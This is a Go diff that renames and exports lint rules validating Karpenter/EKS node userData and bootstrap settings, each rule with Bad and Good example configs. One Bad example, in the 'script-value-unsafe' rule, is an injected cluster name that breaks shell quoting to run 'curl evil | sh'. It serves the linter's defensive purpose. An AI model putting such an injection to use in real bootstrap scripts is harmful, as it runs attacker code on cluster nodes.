@@ -1,4 +1,4 @@
-package userdata
+package lint
 
 import (
 	"strings"
@@ -97,7 +97,7 @@ var (
 		Bad:       nodeClass("Custom", "#!/bin/bash\n"+al2Call+" --kubelet-extra-args \"--node-labels='team=a' --register-with-taints=karpenter.sh/unregistered:NoExecute\"\n"),
 		Good:      nodeClass("Custom", "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--node-labels=team=a --register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
 	})
-	ruleTaintInvalid = rules.Register(rules.Rule{
+	RuleTaintInvalid = rules.Register(rules.Rule{
 		ID: "kubelet-taint-invalid", Severity: rules.Error, Category: category,
 		Title:     "taint the kubelet or API server rejects",
 		Behaviour: "The kubelet parses --register-with-taints (split on `,`, then `:`, then `=`; key a qualified name, value a label value, effect NoSchedule/PreferNoSchedule/NoExecute) and exits on an invalid item, e.g. `invalid taint effect: NoExecute\", unsupported taint effect` when literal quotes reach it; a taint without effect makes the API server reject the Node. The node never registers.",
@@ -129,7 +129,7 @@ var (
 		Bad:       nodeClass("Custom", "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--eviction-hard=memory.available<500Mi --register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
 		Good:      nodeClass("Custom", "#!/bin/bash\n"+al2Call+" --kubelet-extra-args '--eviction-hard=\"memory.available<500Mi\" --register-with-taints=karpenter.sh/unregistered:NoExecute'\n"),
 	})
-	ruleLabelRestricted = rules.Register(rules.Rule{
+	RuleLabelRestricted = rules.Register(rules.Rule{
 		ID: "kubelet-label-restricted", Severity: rules.Error, Category: category,
 		Title:     "kubernetes.io/k8s.io label passed to the kubelet",
 		Behaviour: "The kubelet refuses to start: `unknown 'kubernetes.io' or 'k8s.io' labels specified with --node-labels: [...]` / `--node-labels in the 'kubernetes.io' namespace must begin with an allowed prefix (kubelet.kubernetes.io, node.kubernetes.io) or be in the specifically allowed set (...)`.",
@@ -225,7 +225,7 @@ var (
 		Bad:       nodeClass("Bottlerocket", "[settings.kubernetes]\nnode-label = { team = \"a\" }\n"),
 		Good:      nodeClass("Bottlerocket", "[settings.kubernetes.node-labels]\nteam = \"a\"\n"),
 	})
-	ruleFormatMismatch = rules.Register(rules.Rule{
+	RuleFormatMismatch = rules.Register(rules.Rule{
 		ID: "userdata-format-mismatch", Severity: rules.Error, Category: category,
 		Title:     "userData format does not match the AMI family",
 		Behaviour: "Bottlerocket reads only settings TOML (Karpenter fails with `invalid UserData` on a shell script or MIME archive); Linux families run shell scripts and NodeConfig documents, so TOML there does nothing or fails cloud-init.",
@@ -281,7 +281,7 @@ var (
 		Bad:       nodeClass("AL2", "#!/bin/bash\n# ... 20 KB of inline files ...\n"),
 		Good:      nodeClass("AL2", "#!/bin/bash\naws s3 cp s3://my-bucket/node-setup.sh /tmp/ && bash /tmp/node-setup.sh\n"),
 	})
-	ruleValueUnsafe = rules.Register(rules.Rule{
+	RuleValueUnsafe = rules.Register(rules.Rule{
 		ID: "script-value-unsafe", Severity: rules.Error, Category: category,
 		Title:     "value cannot be placed safely into the bootstrap script",
 		Behaviour: "Cluster name, endpoint, CA and DNS address are written into single-quoted shell/PowerShell arguments; a quote, `$(`, backtick, whitespace or newline would end the quoting or change the command, and is never a valid cluster fact anyway.",
@@ -289,7 +289,7 @@ var (
 		Bad:       bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster'; curl evil | sh; '"`),
 		Good:      bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`),
 	})
-	ruleCANotBase64 = rules.Register(rules.Rule{
+	RuleCANotBase64 = rules.Register(rules.Rule{
 		ID: "cluster-ca-not-base64", Severity: rules.Error, Category: category,
 		Title:     "certificate authority is not base64",
 		Behaviour: "Karpenter base64-decodes the CA bundle for AL2023 and fails with `decoding CABundle`; bootstrap.sh pipes it through `base64 -d` and writes a broken ca.crt.",
@@ -297,7 +297,7 @@ var (
 		Bad:       "# certificate_authority cut short when copied\n" + bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksEndpoint, `certificate_authority = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tC"`, eksCIDR),
 		Good:      bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksEndpoint, eksCA, eksCIDR),
 	})
-	ruleCIDRMissing = rules.Register(rules.Rule{
+	RuleCIDRMissing = rules.Register(rules.Rule{
 		ID: "cluster-cidr-missing", Severity: rules.Error, Category: category,
 		Title:     "NodeConfig needs the cluster service CIDR",
 		Behaviour: "Karpenter cannot render AL2023 userData without spec.cluster.cidr (`resolving cluster CIDR`, NodeClassNotReady); nodeadm also requires it to derive the cluster DNS address.",
@@ -305,7 +305,7 @@ var (
 		Bad:       bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksEndpoint, eksCA),
 		Good:      bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksEndpoint, eksCA, eksCIDR),
 	})
-	ruleExtraArgInvalid = rules.Register(rules.Rule{
+	RuleExtraArgInvalid = rules.Register(rules.Rule{
 		ID: "bootstrap-kubelet-arg-invalid", Severity: rules.Error, Category: category,
 		Title:     "kubelet_extra_args element that cannot be passed safely",
 		Behaviour: "Each element becomes one kubelet argument in a single-quoted shell value, a systemd Environment line or a NodeConfig flag; quotes, whitespace, `$` or backslashes would split or break it, and --register-with-taints/--node-labels would override the taints and labels the block registers (pflag: last flag wins).",
@@ -313,7 +313,7 @@ var (
 		Bad:       bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`, `kubelet_extra_args = ["--register-with-taints=team=a:NoSchedule"]`),
 		Good:      bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`, rules.Block("register_with_taints", teamTaint...)),
 	})
-	ruleScriptUnsupported = rules.Register(rules.Rule{
+	RuleScriptUnsupported = rules.Register(rules.Rule{
 		ID: "bootstrap-script-unsupported", Severity: rules.Error, Category: category,
 		Title:     "bootstrap setting the bottlerocket format cannot express",
 		Behaviour: "Bottlerocket runs no shell userData and takes no free-form kubelet flags; pre/post scripts and kubelet_extra_args would be silently lost.",
@@ -321,7 +321,7 @@ var (
 		Bad:       bootstrapClass(`format = "bottlerocket"`, `cluster_name = "my-cluster"`, `pre_bootstrap_script = "sysctl -w vm.max_map_count=262144"`),
 		Good:      "# Write the settings TOML yourself (e.g. settings.kernel.sysctl or a bootstrap container) in user_data.\n" + nodeClass("Custom", "[settings.kubernetes]\ncluster-name = \"my-cluster\"\n[settings.kubernetes.node-taints]\n\"karpenter.sh/unregistered\" = [\":NoExecute\"]\n[settings.kernel.sysctl]\n\"vm.max_map_count\" = \"262144\"\n"),
 	})
-	ruleScriptUnsafe = rules.Register(rules.Rule{
+	RuleScriptUnsafe = rules.Register(rules.Rule{
 		ID: "bootstrap-script-unsafe", Severity: rules.Error, Category: category,
 		Title:     "pre/post bootstrap script changes the bootstrap call",
 		Behaviour: "The scripts are placed before and after the bootstrap.sh call in one bash script; a trailing backslash, unterminated here-document or `exit` would swallow, alter or skip the call.",
@@ -331,7 +331,7 @@ var (
 	})
 )
 
-var ruleInputMissing = rules.Register(rules.Rule{
+var RuleInputMissing = rules.Register(rules.Rule{
 	ID: "bootstrap-input-missing", Severity: rules.Error, Category: category,
 	Title:     "cluster fact the bootstrap format requires is missing",
 	Behaviour: "Without the cluster name the node cannot build its kubeconfig; nodeadm rejects a NodeConfig without name, apiServerEndpoint or certificateAuthority (`nodeadm init` fails validation) and Bottlerocket without cluster-name, api-server and cluster-certificate never joins.",
